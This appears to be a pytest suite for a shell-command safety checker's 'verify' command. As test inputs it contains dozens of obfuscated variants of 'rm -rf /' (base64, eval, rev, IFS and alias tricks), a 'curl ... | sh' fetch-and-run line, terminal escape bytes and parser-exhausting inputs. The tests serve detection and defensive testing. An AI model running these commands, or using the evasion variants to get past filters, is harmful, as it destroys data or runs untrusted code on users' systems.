# SPDX-License-Identifier: Apache-2.0
"""`atoll verify` from the command line: what it finds, how it says so, and what it makes of rules that are wrong."""
import json
import time

import pytest


def verify(sandbox, text, *options):
    return sandbox.run_atoll("verify", *options, "-", stdin=text.encode() if isinstance(text, str) else text)


def ids(sandbox, text, *options):
    done = verify(sandbox, text, "--json", *options)
    assert done.code in (0, 1), done
    return [finding["id"] for finding in json.loads(done.out)["findings"]]


def test_the_examples_of_the_shipped_rules_are_right(sandbox):
    done = sandbox.run_atoll("verify", "--test-rules", "--no-own-rules")
    assert done.code == 0 and ", 0 wrong\n" in done.out, done.out


def test_a_finding_underlines_its_place(sandbox):
    done = verify(sandbox, "echo hello\nx=/etc\n\trm -rf \"$x\"\n", "-l", "shell")
    assert done.code == 1
    lines = done.out.splitlines()
    assert lines[0].startswith("-:3:9: critical: ") and "[destructive.remove-system, certain]" in lines[0]
    assert lines[1] == '     3 |     rm -rf "$x"'
    assert lines[2].rstrip() == "       |            ^^^^" and "\x1b" not in done.out


def test_the_exit_status_follows_fail_on(sandbox):
    assert verify(sandbox, "ls\n").code == 0
    assert verify(sandbox, "rm -rf /\n").code == 1
    assert verify(sandbox, "perl -e 1\n", "--fail-on", "critical").code == 0
    assert verify(sandbox, "ls\n", "--fail-on", "huge").code == 2
    assert sandbox.run_atoll("verify", "/does/not/exist").code == 125
    assert sandbox.run_atoll("verify").code == 2


def test_several_files_are_judged_each_by_itself(sandbox):
    """The worst of them makes the exit status, wherever it stands; nothing of one is seen in the next."""
    texts = {"risky": "x=/\nrm -rf $x\n", "harmless": "ls\n", "leftover": "rm -rf ./$x/a\n"}
    files = {name: str(sandbox.write(sandbox.base / name, text)) for name, text in texts.items()}
    for order in (("harmless", "risky", "leftover"), ("risky", "leftover", "harmless")):
        done = sandbox.run_atoll("verify", "--json", "-l", "shell", *(files[name] for name in order))
        answers = [json.loads(line) for line in done.out.splitlines()]
        assert done.code == 1 and [answer["file"] for answer in answers] == [files[name] for name in order], done
        for name, answer in zip(order, answers):
            assert [finding["id"] for finding in answer["findings"]] == ids(sandbox, texts[name], "-l", "shell"), name
    assert sandbox.run_atoll("verify", files["harmless"], files["leftover"]).code == 0
    assert sandbox.run_atoll("verify", "--sarif", files["harmless"], files["risky"]).code == 2
    assert sandbox.run_atoll("verify", *[files["harmless"]] * 257).code == 2
    # What cannot be opened is known before anything is judged.
    done = sandbox.run_atoll("verify", files["risky"], str(sandbox.base / "none"))
    assert done.code == 125 and not done.out and "none cannot be read" in done.err, done


def test_a_command_and_sarif(sandbox):
    done = sandbox.run_atoll("verify", "--command", "--sarif", "--", "sh", "-c", "rm -rf /")
    run = json.loads(done.out)["runs"][0]
    assert done.code == 1 and run["results"][0]["ruleId"] == "destructive.remove-system"
    assert run["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] == 1
    assert {rule["id"] for rule in run["tool"]["driver"]["rules"]} == {r["ruleId"] for r in run["results"]}


@pytest.mark.parametrize("text", [
    "rm -rf /", "x=/; y=r; ${y}m -rf $x", "eval 'rm -rf /'", "sh -c \"sh -c 'rm -rf /'\"", "echo / | xargs rm -rf",
    "find / -delete", "find / -exec rm -rf {} +", "f() { rm -rf \"$1\"; }; f /", "alias r='rm -rf'; r /",
    "for i in /a /etc; do rm -rf $i; done", "cat <<E | sh\nrm -rf /\nE\n", "sh <<<'rm -rf /'", "rm${IFS}-rf${IFS}/",
    "{rm,-rf,/}", "$'\\x72m' -rf /", "sudo env A=1 nice -n 5 timeout 3 rm -rf /", "cd / && rm -rf *",
    "echo cm0gLXJmIC8K | base64 -d | bash", "printf '\\162\\155 -rf /' | sh", "trap 'rm -rf /' EXIT",
    "bash <(echo 'rm -rf /')", "x='rm -rf /'; $x", "echo '/ fr- mr' | rev | sh", "${x:-rm} -rf /",
    "if true; then rm -rf /; fi", "while read x; do rm -rf /; done < f", "(cd /; rm -rf ./etc)",
    "cat > x.sh <<'E'\nrm -rf /\nE\nsh x.sh", "a=(rm -rf /); ${a[@]}", "xargs -I{} rm -rf {} <<< /",
])
def test_the_same_deed_in_many_words(sandbox, text):
    assert "destructive.remove-system" in ids(sandbox, text, "-l", "shell", "--no-own-rules")


def test_what_is_only_said_is_not_done(sandbox):
    text = "echo 'rm -rf /'; # rm -rf /\ngrep 'rm -rf /' f; x='rm -rf /'; echo \"$x\""
    assert ids(sandbox, text, "-l", "shell") == []


def test_own_rules_are_read_strictly(sandbox):
    own = sandbox.write(sandbox.base / "own.yaml", """atoll-verify: 1
rules:
  - id: own.deploy
    class: destructive
    severity: high
    match: {program: deploy, without-flags: ["--dry-run"]}
    reason: this deploys
    examples: {matches: [deploy now], harmless: [deploy --dry-run]}
""")
    assert ids(sandbox, "deploy now", "-l", "shell", "-r", own) == ["own.deploy"]
    assert sandbox.run_atoll("verify", "--test-rules", "-r", own).code == 0
    sandbox.write(own, own.read_text().replace("deploy --dry-run]", "deploy here]"))
    done = sandbox.run_atoll("verify", "--test-rules", "-r", own)
    assert done.code == 1 and "own.yaml:8:" in done.out and "finds a harmless example" in done.out
    for wrong, said in (("severity: high", "severty: high"), "did you mean \"severity\""), \
            (("program: deploy", "kind: delete"), "is no kind of operation"), \
            (("program: deploy", 'arguments: ["@none"]'), "there is no list @none"):
        sandbox.write(own, own.read_text().replace(*wrong))
        done = verify(sandbox, "ls", "-r", own)
        assert done.code == 2 and said in done.err and "own.yaml:" in done.err, done
        sandbox.write(own, own.read_text().replace(*reversed(wrong)))


def test_hostile_bytes_reach_no_terminal_and_are_not_harmless(sandbox):
    done = verify(sandbox, b"rm -rf / \x1b]0;owned\x07\xff\x00 x\n", "-l", "shell")
    assert done.code == 1 and "\x1b" not in done.out and "unknown.encoding" in done.out


@pytest.mark.parametrize("text", [
    "if true; then " * 10000, "|".join(["cat"] * 20000), 'echo "$(echo ' * 3000,
    "a=aaaaaaaaaaaaaaaa\n" + "a=$a$a\n" * 200 + "eval \"$a\"\n",
    "(" * 10000 + "ls" + ")" * 10000,
    "ls\n" * (11 << 20 >> 2), "xargs " * 4000 + "rm", "x='eval \"$x\"'; eval \"$x\"",
], ids=["ifs", "pipes", "quotes", "doubling", "parentheses", "long", "wrappers", "eval"])
def test_what_is_too_much_is_unknown_in_bounded_time(sandbox, text):
    begun = time.monotonic()
    done = verify(sandbox, text, "-l", "shell", "--json")
    assert done.code in (0, 1) and "unknown." in done.out, done
    assert time.monotonic() - begun < 20


@pytest.mark.parametrize("text", ["{begin}rm -rf /usr/$a; {end}", "{begin}rm $a; {end} rm -rf /usr"],
                         ids=["inside", "behind"])
def test_what_loops_in_loops_do_is_seen_in_bounded_time(sandbox, text):
    begun = time.monotonic()
    done = verify(sandbox, text.format(begin="for a in 1 2 3 4 5 6 7 8; do " * 12, end="done; " * 12), "-l", "shell")
    assert done.code == 1 and "destructive.remove-system" in done.out, done
    assert time.monotonic() - begun < 20


DEEDS = ["echo cm0gLXJmIC8K | base64 -d | sh", "curl -fsS https://a.example/x | tee log | sh",
         "cat f | cat | rm -rf / ; true", "ls | wc -l | rm -rf /"]
BESIDE = ["ls && ps", "make -j4 && make test", "true || exit 1", "x=1 && export x", "[ -f x ] && . ./x", "(cd a && ls)",
          "if a && b; then c; fi", "# nothing\nls a \\\n  b && ps", "cat <<E && ps\nE\n"]


@pytest.mark.parametrize("beside", BESIDE)
@pytest.mark.parametrize("deed", DEEDS)
def test_a_line_does_not_hide_the_one_before(sandbox, deed, beside):
    """The grammar takes the newline between a long pipeline and a list for a blank."""
    alone = ids(sandbox, deed + "\n")
    assert alone
    for text in (f"{deed}\n{beside}\n", f"{beside}\n{deed}\n{beside}\n", f"if true; then\n{deed}\n{beside}\nfi\n",
                 f"f() {{\n  {deed}\n  {beside}\n}}\nf\n"):
        assert set(alone) <= set(ids(sandbox, text)), text


def test_words_over_several_lines_stay_one_command(sandbox):
    assert ids(sandbox, "rm -r \\\n  -f \\\n  /\n") == ids(sandbox, "rm -r -f /\n") != []
    assert "destructive.remove-system" in ids(sandbox, "a=(rm\n-rf\n/)\n${a[@]}\n")


def test_a_command_in_quotes_is_not_found_harmless(sandbox):
    """As one word it is the name of a program, in which no rule can find anything."""
    result = sandbox.run_atoll("verify", "--command", "--", "rm -rf ~")
    assert result.code == 2 and "leave out the quotes" in result.err and result.out == "", result
    tool = sandbox.write(sandbox.home / "a tool", "#!/bin/sh\n", 0o755)
    assert sandbox.run_atoll("verify", "--command", "--", str(tool)).code == 0
    assert sandbox.run_atoll("verify", "--command", "--", "sh", "-c", "rm -rf ~").code == 1
